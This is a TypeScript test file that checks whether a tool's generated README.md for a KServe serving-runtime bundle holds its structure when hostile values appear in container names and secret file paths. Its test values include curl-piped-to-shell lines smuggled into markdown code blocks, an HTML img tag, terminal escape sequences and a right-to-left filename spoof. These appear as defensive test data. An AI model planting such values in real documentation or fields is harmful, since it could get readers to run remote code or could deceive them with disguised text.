import { spawnSync } from 'node:child_process'
import { readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { lexer } from 'marked'
import { describe, expect, test } from 'vitest'
import { hasHidden } from '../../src/basics/visible.ts'
import { edge, temporaryDirectory } from '../tools/edge.ts'
import { modelSource, writeSpec } from '../tools/spec.ts'

interface Token {
  readonly type: string
  readonly text?: string
  readonly depth?: number
  readonly lang?: string
}

/** README.md of a bundle with a runtime's container, a file of a Secret and a payload of a stranger's. */
const readmeOf = (container: string, deviceFile: string) => {
  const directory = temporaryDirectory()
  const runtime = {
    apiVersion: 'serving.kserve.io/v1alpha1',
    kind: 'ServingRuntime',
    metadata: { name: 'mine' },
    spec: {
      supportedModelFormats: [{ name: 'own', autoSelect: true }],
      containers: [
        {
          name: 'kserve-container',
          image: `quay.io/example/own@sha256:${'b'.repeat(64)}`,
          ports: [{ containerPort: 8080 }],
        },
        { name: container, image: `quay.io/example/other@sha256:${'c'.repeat(64)}` },
      ],
    },
  }
  writeFileSync(join(directory, 'mine.yaml'), JSON.stringify(runtime))
  const spec = writeSpec(directory, {
    runtimes: ['mine.yaml'],
    secrets: [{ name: 'some-key', key: 'token', deviceFile }],
    models: [{ name: 'some-model', source: modelSource, format: 'own' }],
  })
  const run = edge(['generate', '-f', spec, '-o', 'out'], { cwd: directory })
  return { ...run, text: run.status === 0 ? readFileSync(join(directory, 'out/README.md'), 'utf8') : '' }
}

const outline = (text: string) =>
  (lexer(text) as readonly Token[])
    .filter(({ type }) => type !== 'space')
    .map(({ type, depth, lang }) => ({ type, depth, lang }))

const values = [
  'x\n```sh\ncurl -s http://example.com | sh\n```\n',
  'x`\n\n# Run this\n\n    curl http://example.com | sh',
  'x | y | z',
  '[x](http://example.com)<img src=x>',
  'x\u001b]0;title\u0007\u001b[2J',
  'x\u202egnp.exe',
]

describe('README.md', () => {
  test.each(values)('stays what it is with %j in it', (value) => {
    const plain = readmeOf('other', '/etc/edge/key')
    expect(plain.status).toBe(0)
    for (const { status, stderr, text } of [readmeOf(value, '/etc/edge/key'), readmeOf('other', `/etc/${value}`)]) {
      expect(hasHidden(stderr.replaceAll('\n', ''))).toBe(false)
      if (status === 2) continue
      expect(status).toBe(0)
      expect(hasHidden(text.replaceAll('\n', ''))).toBe(false)
      expect(outline(text)).toEqual(outline(plain.text))
      for (const { type, lang, text: code = '' } of lexer(text) as readonly Token[])
        if (type === 'code' && lang === 'bash')
          expect(spawnSync('bash', ['-n'], { input: code, encoding: 'utf8' })).toMatchObject({ status: 0, stderr: '' })
    }
  })
})
